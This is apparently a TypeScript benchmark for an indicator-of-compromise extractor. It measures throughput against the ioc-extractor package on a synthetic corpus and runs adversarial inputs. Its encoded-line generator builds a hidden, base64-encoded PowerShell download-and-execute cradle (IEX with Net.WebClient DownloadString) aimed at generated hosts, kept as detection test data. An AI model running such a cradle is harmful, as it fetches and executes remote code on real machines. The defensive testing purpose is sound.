// IOC extraction: throughput on a generated mixed corpus next to ioc-extractor (same corpus, same run),
// the hot-path cost on one alert line against JSON.parse of that line, and adversarial inputs.
import { extractIOC } from 'ioc-extractor';
import { extractIocs, extractIocsFromText, IOC_TYPES, type IocType } from '../src/ioc/index.js';

// ---- corpus (deterministic) ----
let seed = 0x5eed;
function rnd(): number {
  seed = (seed * 1103515245 + 12345) & 0x7fffffff;
  return seed / 0x7fffffff;
}
const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)]!;
const hex = (n: number): string => Array.from({ length: n }, () => '0123456789abcdef'[Math.floor(rnd() * 16)]).join('');
const WORDS = 'the of and to in is that for it as was with be by on not he this are or his from at which but have an they you were her she there been one all we their has would when if so what out up into no more can said some time could them than these other then only its may first like over also new very after such most even made well our where many way down through much must before back years good should because long those same people just still being each'.split(' ');
const TLDS = ['com', 'net', 'org', 'ru', 'io', 'co.uk', 'de', 'info', 'xyz', 'top', 'cn', 'br'];
const host = (): string => `${pick(['mail', 'cdn', 'api', 'www', 'login', 'secure', ''])}${rnd() < 0.5 ? '.' : ''}${pick(WORDS)}${pick(['', '-', ''])}${pick(WORDS)}.${pick(TLDS)}`.replace(/^\./, '');
const ip = (): string => `${1 + Math.floor(rnd() * 222)}.${Math.floor(rnd() * 256)}.${Math.floor(rnd() * 256)}.${Math.floor(rnd() * 256)}`;
const url = (): string => `${pick(['http', 'https'])}://${host()}/${pick(WORDS)}/${pick(WORDS)}.${pick(['php', 'html', 'exe', 'js'])}${rnd() < 0.3 ? `?id=${Math.floor(rnd() * 1e6)}` : ''}`;
const defang = (s: string): string => s.replace(/^http/, 'hxxp').replace(/\./g, pick(['[.]', '(.)', '[dot]', '[.]']));
const sentence = (): string => {
  const n = 8 + Math.floor(rnd() * 14);
  const w: string[] = [];
  for (let i = 0; i < n; i++) w.push(pick(WORDS));
  if (rnd() < 0.25) w.splice(Math.floor(rnd() * n), 0, pick([host(), ip(), url(), `CVE-20${10 + Math.floor(rnd() * 15)}-${1000 + Math.floor(rnd() * 90000)}`, `T1${Math.floor(rnd() * 600).toString().padStart(3, '0')}`]));
  return `${w.join(' ')}.`;
};
function prose(): string {
  return Array.from({ length: 3 + Math.floor(rnd() * 5) }, sentence).join(' ') + '\n\n';
}
function logs(): string {
  const out: string[] = [];
  for (let i = 0; i < 20; i++) {
    const k = rnd();
    if (k < 0.3) out.push(`Jan 12 10:${String(i).padStart(2, '0')}:07 web01 sshd[${1000 + i}]: Failed password for invalid user ${pick(WORDS)} from ${ip()} port ${1024 + Math.floor(rnd() * 60000)} ssh2`);
    else if (k < 0.55) out.push(`${ip()} - - [12/Jan/2024:10:11:12 +0000] "GET /${pick(WORDS)}/${pick(WORDS)}.php?q=${pick(WORDS)} HTTP/1.1" 404 512 "-" "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"`);
    else if (k < 0.8) out.push(JSON.stringify({ timestamp: '2024-01-12T10:11:12Z', rule: { level: 10, id: '5710' }, agent: { name: 'web01' }, data: { srcip: ip(), url: url(), hash: hex(64) }, full_log: `process C:\\Users\\${pick(WORDS)}\\AppData\\Local\\Temp\\${pick(WORDS)}.exe connected to ${host()}` }));
    else out.push(`CEF:0|Vendor|IDS|1.0|100|Alert|7|src=${ip()} dst=${ip()} suser=${pick(WORDS)}@${host()} fileHash=${hex(32)} request=${url()}`);
  }
  return out.join('\n') + '\n';
}
function iocList(): string {
  const out: string[] = ['Indicators of compromise:'];
  for (let i = 0; i < 15; i++) out.push(`- ${pick([() => defang(url()), () => defang(host()), () => defang(ip()), () => hex(64), () => hex(40), () => `${pick(WORDS)}[@]${defang(host())}`])()}`);
  return out.join('\n') + '\n\n';
}
function html(): string {
  const links = Array.from({ length: 5 }, () => `<li><a href="${url()}">${pick(WORDS)} ${pick(WORDS)}</a> &mdash; ${pick(WORDS)}&#46;${pick(WORDS)} ${host()}</li>`).join('\n');
  return `<div class="msg"><p>${sentence()} ${sentence()}</p><ul>${links}</ul><img src="https://${host()}/pixel.gif"></div>\n`;
}
function corpus(minBytes: number): string {
  const parts: string[] = [];
  let len = 0;
  while (len < minBytes) {
    const p = pick([prose, logs, iocList, html])();
    parts.push(p);
    len += p.length;
  }
  return parts.join('');
}

// Lines whose indicators are encoded, one layer each (the decode budget is per call, so the corpus is
// extracted line by line, as the pipeline does per field).
function encodedLine(): string {
  const u = url();
  const k = rnd();
  if (k < 0.25) return `C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -NoP -W Hidden -enc ${Buffer.from(`IEX (New-Object Net.WebClient).DownloadString('${u}')`, 'utf16le').toString('base64')}`;
  if (k < 0.4) return `$s=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${Buffer.from(u).toString('base64')}'))`;
  if (k < 0.6) return `<a href="https://eur02.safelinks.protection.outlook.com/?url=${encodeURIComponent(u)}&data=05%7C02%7C${hex(24)}&sdata=${hex(20)}&reserved=0">${pick(WORDS)}</a>`;
  if (k < 0.75) return `https://urldefense.proofpoint.com/v2/url?u=${encodeURIComponent(u).replace(/-/g, '%2D').replace(/_/g, '%5F').replace(/%/g, '-').replace(/\//g, '_')}&d=DwMFaQ&c=${hex(20)}&e=`;
  if (k < 0.85) return `https://urldefense.com/v3/__${u.replace(/\?/g, '*')}__;Pw!!${hex(10)}!${hex(12)}$`;
  return `GET /go.php?to=${encodeURIComponent(u)}&ref=mail HTTP/1.1`;
}
function encodedCorpus(minBytes: number): string {
  const lines: string[] = [];
  let len = 0;
  while (len < minBytes) {
    const l = encodedLine();
    lines.push(l);
    len += l.length + 1;
  }
  return lines.join('\n');
}
const NO_DECODE = { decode: false } as const;

// ---- helpers ----
function time(fn: () => void, runs: number): number {
  let best = Infinity;
  for (let r = 0; r < runs; r++) {
    const t0 = performance.now();
    fn();
    best = Math.min(best, performance.now() - t0);
  }
  return best;
}
const mb = (s: string): number => Buffer.byteLength(s) / 1e6;
const f1 = (x: number): string => x.toFixed(1);

// ---- throughput on the mixed corpus ----
const text = corpus(2_200_000);
console.log(`corpus: ${f1(mb(text))} MB (prose, syslog/access/JSON/CEF logs, defanged IOC lists, HTML)`);
extractIocs(text, { kind: 'text' });
extractIOC(text);
// Interleaved rounds, best of each: on a shared machine load comes and goes, and both sides should see
// the same conditions.
let tV = Infinity;
let tH = Infinity;
let tX = Infinity;
for (let round = 0; round < 4; round++) {
  tV = Math.min(tV, time(() => extractIocs(text, { kind: 'text' }), 1));
  tH = Math.min(tH, time(() => extractIocsFromText(text), 1));
  tX = Math.min(tX, time(() => extractIOC(text), 1));
}
// Decoding layers: what they cost on this corpus (nothing here is encoded, so only their checks run),
// and their throughput on text that is mostly encoded (command lines, rewritten links).
let tOff = Infinity;
let tOn = Infinity;
// More rounds than above: the difference measured is small next to a shared machine's noise.
for (let round = 0; round < 12; round++) {
  tOn = Math.min(tOn, time(() => extractIocsFromText(text), 1));
  tOff = Math.min(tOff, time(() => extractIocsFromText(text, NO_DECODE), 1));
}
const vMBs = mb(text) / (tV / 1000);
const xMBs = mb(text) / (tX / 1000);
console.log(`vigil extractIocs            ${f1(vMBs).padStart(7)} MB/s  (${tV.toFixed(0)} ms)`);
console.log(`vigil extractIocsFromText    ${f1(mb(text) / (tH / 1000)).padStart(7)} MB/s  (${tH.toFixed(0)} ms)`);
console.log(`ioc-extractor extractIOC     ${f1(xMBs).padStart(7)} MB/s  (${tX.toFixed(0)} ms)`);
console.log(`ratio vigil / ioc-extractor  ${f1(vMBs / xMBs).padStart(7)}×  (goal ≥ 4×)`);
console.log(`decoding layers on this corpus: ${f1(mb(text) / (tOn / 1000))} MB/s with, ${f1(mb(text) / (tOff / 1000))} MB/s without (decode: false): ${(((tOn - tOff) / tOff) * 100).toFixed(1)}% of the time`);
const encoded = encodedCorpus(1_000_000);
const encodedLines = encoded.split('\n');
let decodedUrls = 0;
for (const l of encodedLines) decodedUrls += extractIocsFromText(l).filter((h) => h.type === 'url' && h.layers).length;
const tEnc = time(() => encodedLines.forEach((l) => extractIocsFromText(l)), 3);
const tEncOff = time(() => encodedLines.forEach((l) => extractIocsFromText(l, NO_DECODE)), 3);
// and per line on the plain corpus, as the pipeline calls it (one field at a time)
const plainLines = text.split('\n');
let tLineOn = Infinity;
let tLineOff = Infinity;
for (let round = 0; round < 12; round++) {
  tLineOn = Math.min(tLineOn, time(() => plainLines.forEach((l) => extractIocsFromText(l)), 1));
  tLineOff = Math.min(tLineOff, time(() => plainLines.forEach((l) => extractIocsFromText(l, NO_DECODE)), 1));
}
console.log(`decoding layers per line of this corpus (${plainLines.length} lines): ${(((tLineOn - tLineOff) / tLineOff) * 100).toFixed(1)}% of the time`);
console.log(`encoded corpus ${f1(mb(encoded))} MB (-enc command lines, FromBase64String, Safe Links, URL Defense v2/v3, %-encoded redirects): ${f1(mb(encoded) / (tEnc / 1000))} MB/s decoding (${decodedUrls} URLs decoded), ${f1(mb(encoded) / (tEncOff / 1000))} MB/s without`);

const mine = extractIocs(text, { kind: 'text' });
const theirs = extractIOC(text) as unknown as Record<string, string[]>;
const THEIR_KEY: Partial<Record<IocType, string>> = {
  ipv4: 'ipv4s', ipv6: 'ipv6s', domain: 'domains', url: 'urls', email: 'emails', md5: 'md5s', sha1: 'sha1s',
  sha256: 'sha256s', sha512: 'sha512s', cve: 'cves', asn: 'asns', btc: 'btcs', eth: 'eths',
};
console.log('\nunique values found       vigil  ioc-extractor');
for (const t of IOC_TYPES) {
  const k = THEIR_KEY[t];
  console.log(`  ${t.padEnd(22)}${String(mine[t].length).padStart(6)}  ${k ? String(theirs[k]?.length ?? 0).padStart(13) : '            -'}`);
}

// ---- hot path: one alert line ----
const line = JSON.stringify({ timestamp: '2024-05-01T12:00:00Z', rule: { level: 10, id: '5710' }, agent: { name: 'web01' }, data: { srcip: '203.0.113.7', dstuser: 'root' }, full_log: 'sshd[4121]: Failed password for root from 203.0.113.7 port 52144 ssh2' });
const logLine = 'Jan 12 10:11:07 web01 sshd[4121]: Failed password for invalid user admin from 203.0.113.7 port 52144 ssh2; url=hxxp://evil[.]example[.]com/x.php';
function perCall(fn: () => unknown): number {
  const N = 200_000;
  for (let i = 0; i < 20_000; i++) fn();
  return time(() => {
    for (let i = 0; i < N; i++) fn();
  }, 5) * 1e6 / N;
}
const nsParse = perCall(() => JSON.parse(line));
const nsLine = perCall(() => extractIocsFromText(line));
const nsLog = perCall(() => extractIocsFromText(logLine));
console.log(`\nhot path (${line.length}-byte alert line)`);
console.log(`  JSON.parse(line)                     ${f1(nsParse / 1000).padStart(6)} µs`);
console.log(`  extractIocsFromText(line)            ${f1(nsLine / 1000).padStart(6)} µs   (${(nsLine / nsParse).toFixed(2)}× JSON.parse)`);
console.log(`  extractIocsFromText(${logLine.length}-byte log)    ${f1(nsLog / 1000).padStart(6)} µs   (defanged URL inside)`);

// ---- adversarial inputs ----
const ADV: [string, (n: number) => string][] = [
  ['dots', (n) => '.'.repeat(n)],
  ['digits', (n) => '1'.repeat(n)],
  ['digit-dot', (n) => '1.'.repeat(n / 2)],
  ['label-dot', (n) => 'a.'.repeat(n / 2)],
  ['at signs', (n) => '@'.repeat(n)],
  ['a@ repeated', (n) => 'a@'.repeat(n / 2)],
  ['hex', (n) => 'a'.repeat(n)],
  ['hex-dash', (n) => 'deadbeef-'.repeat(n / 9)],
  ['brackets', (n) => '[('.repeat(n / 2)],
  ['defang dots', (n) => 'a[.]'.repeat(n / 4)],
  ['colons', (n) => '1:'.repeat(n / 2)],
  ['double colons', (n) => 'a::'.repeat(n / 3)],
  ['http://', (n) => 'http://'.repeat(n / 7)],
  ['nested urls', (n) => 'http://a.co/'.repeat(n / 12)],
  ['url parens', (n) => 'http://a.co/('.padEnd(n, '(')],
  ['backslashes', (n) => '\\\\a'.repeat(n / 3)],
  ['win path spaces', (n) => 'C:\\a b'.padEnd(n, ' b')],
  ['percent', (n) => '%a'.repeat(n / 2)],
  ['email local', (n) => 'a+'.repeat(n / 2) + '@x'],
  ['ipv6-ish', (n) => 'ffff:'.repeat(n / 5)],
  ['html tags', (n) => '<a '.repeat(n / 3)],
];
console.log('\nadversarial inputs          1 MB: MB/s     40 KB: vigil   ioc-extractor');
let worst = Infinity;
let worstName = '';
let worst40 = 0;
for (const [name, gen] of ADV) {
  const big = gen(1_000_000);
  const small = gen(40_000);
  const kind = name === 'html tags' ? 'html' : 'text';
  const t1 = time(() => extractIocs(big, { kind }), 2);
  const rate = mb(big) / (t1 / 1000);
  if (rate < worst) {
    worst = rate;
    worstName = name;
  }
  const t40 = time(() => extractIocs(small, { kind }), 3);
  worst40 = Math.max(worst40, t40);
  const tx = time(() => extractIOC(small), 1);
  console.log(`  ${name.padEnd(24)}${f1(rate).padStart(10)}      ${t40.toFixed(2).padStart(7)} ms  ${tx.toFixed(1).padStart(9)} ms`);
}
console.log(`worst case: ${f1(worst)} MB/s (${worstName}); slowest 40 KB adversarial input: ${worst40.toFixed(2)} ms (goal < 50 ms)`);
